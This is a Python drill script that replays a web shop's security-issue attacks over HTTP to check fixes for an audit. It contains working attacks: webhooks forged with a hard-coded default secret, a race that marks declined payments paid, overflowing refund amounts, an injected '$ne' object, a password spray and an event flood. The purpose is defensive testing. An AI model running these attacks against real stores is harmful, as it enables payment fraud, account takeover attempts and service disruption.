"""Issue 18's attacks against a running shop, over HTTP only: prints one line per attack.

Why: the regression tests prove each fix inside the test suite; this drill replays the same
attacks from outside, as the issue's reporter did, against any running server (today's or an
old checkout), so the audit in ``docs/security_audit_18.md`` can quote what a real server says.

    python scripts/drill_issue18.py --url http://127.0.0.1:PORT --admin EMAIL:PASSWORD \\
        [--secret WHSEC] [--race-rounds 150]

``--secret`` is the webhook secret an attacker holds (the old public default, or the install's
own as an insider would): the webhook attacks show what a *signed* forged event can still do.
"""

from __future__ import annotations

import argparse
import hashlib
import hmac
import threading
import time
import uuid
from collections import Counter
from typing import Any

import httpx
import orjson

OLD_DEFAULT_SECRET = "whsec_storeloop_simulated"
ADDRESS = {
    "name": "Ada Shopper",
    "line1": "1 Main Street",
    "city": "Lisbon",
    "postal_code": "1000-001",
    "country": "PT",
}
CARDS = {"ok": "4242424242424242", "decline": "4000000000000002"}
PASSWORD = "kestrel-harbour-7"


def sign(secret: str, body: bytes) -> str:
    """``t=<unix>,v1=<hex HMAC-SHA256 of "t.body">``: the provider's signature header."""
    t = int(time.time())
    mac = hmac.new(secret.encode(), f"{t}.".encode() + body, hashlib.sha256).hexdigest()
    return f"t={t},v1={mac}"


class Shop:
    """A thin client for the calls the attacks need."""

    def __init__(self, url: str, admin: str) -> None:
        self.http = httpx.Client(base_url=url, timeout=60)
        email, password = admin.split(":", 1)
        self.admin = {"Authorization": f"Bearer {self.token(email, password)}"}
        self.category: int | None = None

    def token(self, email: str, password: str) -> str:
        r = self.http.post("/api/v1/auth/token", data={"username": email, "password": password})
        r.raise_for_status()
        return r.json()["access_token"]

    def customer(self) -> dict[str, str]:
        email = f"drill-{uuid.uuid4().hex[:10]}@example.com"
        r = self.http.post("/api/v1/auth/register", json={"email": email, "password": PASSWORD})
        r.raise_for_status()
        return {"Authorization": f"Bearer {self.token(email, PASSWORD)}"}

    def product(self, stock: int, price: int = 2500) -> int:
        if self.category is None:
            slug = f"drill-{uuid.uuid4().hex[:6]}"
            r = self.http.post(
                "/api/v1/categories", json={"slug": slug, "name": "Drill"}, headers=self.admin
            )
            r.raise_for_status()
            self.category = r.json()["id"]
        r = self.http.post(
            "/api/v1/products",
            json={
                "sku": f"DR-{uuid.uuid4().hex[:8]}",
                "title": "Drill thing",
                "category_id": self.category,
                "price_minor": price,
                "initial_stock": stock,
            },
            headers=self.admin,
        )
        r.raise_for_status()
        return r.json()["id"]

    def card(self, kind: str) -> str:
        r = self.http.post(
            "/api/v1/payments/methods",
            json={"card_number": CARDS[kind], "exp_month": 12, "exp_year": 2099, "cvc": "123"},
        )
        r.raise_for_status()
        return r.json()["payment_method"]

    def order(self, who: dict, items: list[dict[str, Any]], card: str = "ok") -> httpx.Response:
        body = {"shipping_address": ADDRESS, "payment_method": self.card(card), "items": items}
        headers = {**who, "Idempotency-Key": uuid.uuid4().hex}
        return self.http.post("/api/v1/orders", json=body, headers=headers)

    def webhook(self, secret: str, event: dict[str, Any]) -> httpx.Response:
        body = orjson.dumps(event)
        return self.http.post(
            "/api/v1/payments/webhook",
            content=body,
            headers={"Storeloop-Signature": sign(secret, body)},
        )


def status(call: Any) -> str:
    """The status code, or the transport error (a server that crashes mid-answer resets)."""
    try:
        return str(call().status_code)
    except httpx.HTTPError as exc:
        return f"connection {type(exc).__name__}"


def event(kind: str, intent: str, order_id: Any, **fields: Any) -> dict[str, Any]:
    obj = {"id": intent, "object": "payment_intent", "metadata": {"order_id": order_id}}
    return {
        "id": "evt_" + uuid.uuid4().hex[:20],
        "type": kind,
        "data": {"object": {**obj, **fields}},
    }


def default_secret(shop: Shop) -> str:
    e = event("payment_intent.succeeded", "pi_" + uuid.uuid4().hex[:24], "ord_none")
    r = shop.webhook(OLD_DEFAULT_SECRET, e)
    return f"status {r.status_code} ({r.json().get('detail', r.json())})"


def race(shop: Shop, secret: str, rounds: int) -> str:
    """A declined card's order, with forged successes posted while its charge is in flight."""
    pid = shop.product(rounds * 2 + 10)
    ends: Counter[str] = Counter()
    for _ in range(rounds):
        who = shop.customer()
        items = [{"product_id": pid, "quantity": 1}]
        worker = threading.Thread(target=shop.order, args=(who, items, "decline"))
        worker.start()
        while worker.is_alive():
            listed = shop.http.get("/api/v1/orders", headers=who)
            for o in listed.json().get("data", []) if listed.status_code == 200 else []:
                if o["status"] == "reserved":
                    shop.webhook(
                        secret,
                        event(
                            "payment_intent.succeeded",
                            "pi_x" + o["id"][-20:],
                            o["id"],
                            status="succeeded",
                        ),
                    )
        worker.join()
        final = shop.http.get("/api/v1/orders", headers=who).json()["data"]
        for o in final:
            ends[f"{o['status']}/{(o.get('payment') or {}).get('status')}"] += 1
    return ", ".join(f"{k} ×{v}" for k, v in sorted(ends.items()))


def refund_forgery(shop: Shop, secret: str) -> str:
    who = shop.customer()
    order = shop.order(who, [{"product_id": shop.product(5), "quantity": 1}]).json()
    intent = order["payment"].get("intent_id") or ""
    r = shop.webhook(
        secret, event("charge.refunded", intent, order["id"], amount_refunded=2147483653)
    )
    after = shop.http.get(f"/api/v1/orders/{order['id']}", headers=who).json()
    return f"webhook {r.status_code}; refunded_minor now {after['payment'].get('refunded_minor')}"


def malformed(shop: Shop, secret: str) -> str:
    """Signed bodies of the wrong shape, naming a real order (so the old code reads them)."""
    who = shop.customer()
    order_id = shop.order(who, [{"product_id": shop.product(5), "quantity": 1}]).json()["id"]
    bodies = {
        "no amount_refunded": event("charge.refunded", "pi_x", order_id),
        '"lots"': event("charge.refunded", "pi_x", order_id, amount_refunded="lots"),
        "order_id object": event("charge.refunded", "pi_x", {"$ne": ""}, amount_refunded=1),
    }
    return ", ".join(
        f"{k}: {status(lambda b=b: shop.webhook(secret, b))}" for k, b in bodies.items()
    )


def quantity_merge(shop: Shop) -> str:
    pid = shop.product(20_000, price=2000)
    r = shop.order(shop.customer(), [{"product_id": pid, "quantity": 1000}] * 10)
    body = r.json()
    return f"status {r.status_code}, total_minor {body.get('total_minor')}, code {body.get('code')}"


def big_total(shop: Shop) -> str:
    """Three €20M yachts: €60M, past a 32-bit column's €21.47M."""
    pid = shop.product(5, price=2_000_000_000)
    r = shop.order(shop.customer(), [{"product_id": pid, "quantity": 3}])
    return f"€60M order: status {r.status_code}, {r.json().get('code') or r.json().get('detail')}"


def currencies(shop: Shop) -> str:
    eur, usd = shop.product(5, price=5000), shop.product(5, price=1_500_000)
    shop.http.patch(f"/api/v1/products/{usd}", json={"currency": "USD"}, headers=shop.admin)
    who = shop.customer()
    shop.http.post("/api/v1/cart/items", json={"product_id": eur, "quantity": 1}, headers=who)
    r = shop.http.post("/api/v1/cart/items", json={"product_id": usd, "quantity": 1}, headers=who)
    cart = shop.http.get("/api/v1/cart", headers=who).json()
    total = f"{cart.get('subtotal_minor')} {cart.get('currency')}"
    return f"add USD: {r.status_code}; cart subtotal {total}"


def strict_types(shop: Shop) -> str:
    pid, who = shop.product(5), shop.customer()
    out = []
    for value in ("2", True):
        r = shop.http.post(
            "/api/v1/cart/items", json={"product_id": pid, "quantity": value}, headers=who
        )
        out.append(f"{value!r}: {r.status_code}")
    return ", ".join(out)


def nul_text(shop: Shop) -> str:
    r = shop.http.post(
        "/api/v1/auth/register",
        json={
            "email": f"nul-{uuid.uuid4().hex[:6]}@example.com",
            "password": PASSWORD,
            "full_name": "A\u0000",
        },
    )
    return f"register with NUL name: {r.status_code}"


def weak_passwords(shop: Shop) -> str:
    out = []
    for pw in ("12345678", "password", " " * 8):
        r = shop.http.post(
            "/api/v1/auth/register",
            json={"email": f"w-{uuid.uuid4().hex[:6]}@example.com", "password": pw},
        )
        out.append(f"{pw!r}: {r.status_code}")
    return ", ".join(out)


def spray(shop: Shop) -> str:
    codes = [
        shop.http.post(
            "/api/v1/auth/token",
            data={
                "username": f"v{i}-{uuid.uuid4().hex[:4]}@example.com",
                "password": "Summer2024!",
            },
        ).status_code
        for i in range(40)
    ]
    return f"40 accounts from one address: {dict(Counter(codes))}"


def static_names(shop: Shop) -> str:
    paths = {"%00.js": "/static/%00.js", "<5000 a>.js": "/static/" + "a" * 5000 + ".js"}
    return ", ".join(
        f"/static/{k}: {status(lambda p=p: shop.http.get(p))}" for k, p in paths.items()
    )


def event_flood(shop: Shop) -> str:
    """One anonymous client posting 100-event batches for 10 s (the reporter's 16 MB)."""
    codes: Counter[int] = Counter()
    retry, sent, start = None, 0, time.monotonic()
    while time.monotonic() - start < 10:
        batch = orjson.dumps(
            {
                "events": [
                    {
                        "event_id": str(uuid.uuid4()),
                        "type": "product_view",
                        "client_ts": "2026-01-02T03:04:05Z",
                        "product_id": 17,
                    }
                    for _ in range(100)
                ]
            }
        )
        r = shop.http.post(
            "/api/v1/events",
            content=batch,
            headers={"content-type": "application/json", "X-Session-Id": "flood-session-0001"},
        )
        codes[r.status_code] += 1
        sent += len(batch) if r.status_code == 202 else 0
        retry = retry or r.headers.get("retry-after")
    mb = sent / 1e6
    return f"10 s of 100-event batches: {dict(codes)}, accepted {mb:.1f} MB, Retry-After {retry}"


ATTACKS = {
    "old default secret": default_secret,
    "refund forgery": refund_forgery,
    "malformed signed webhooks": malformed,
    "decline vs forged success": race,
    "quantity merge": quantity_merge,
    "€20M order": big_total,
    "cross-currency cart": currencies,
    "strict types": strict_types,
    "NUL in text": nul_text,
    "weak passwords": weak_passwords,
    "static names": static_names,
    # Last: these two put this address into back-off, which then refuses the drill's own logins.
    "login spray": spray,
    "event flood": event_flood,
}


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--url", required=True)
    p.add_argument("--admin", required=True, help="EMAIL:PASSWORD of an admin")
    p.add_argument("--secret", default=OLD_DEFAULT_SECRET, help="the webhook secret to forge with")
    p.add_argument("--race-rounds", type=int, default=150)
    p.add_argument("--only", nargs="*", help="attack names to run (default: all)")
    args = p.parse_args()
    shop = Shop(args.url, args.admin)
    for name, attack in ATTACKS.items():
        if args.only and name not in args.only:
            continue
        extra: list[Any] = []
        if attack in (race, refund_forgery, malformed):
            extra.append(args.secret)
        if attack is race:
            extra.append(args.race_rounds)
        try:
            print(f"{name}: {attack(shop, *extra)}", flush=True)
        except Exception as exc:  # a drill reports and goes on
            print(f"{name}: drill error {type(exc).__name__}: {exc}", flush=True)


if __name__ == "__main__":
    main()
